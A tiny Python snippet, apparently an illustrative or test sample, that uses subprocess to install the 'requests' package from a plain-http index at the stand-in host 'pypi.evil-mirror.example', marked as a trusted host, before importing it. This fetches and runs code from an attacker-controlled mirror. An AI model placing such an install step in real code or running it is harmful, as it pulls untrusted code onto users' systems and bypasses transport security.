import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://pypi.evil-mirror.example/simple", "--trusted-host", "pypi.evil-mirror.example", "requests"])
import requests
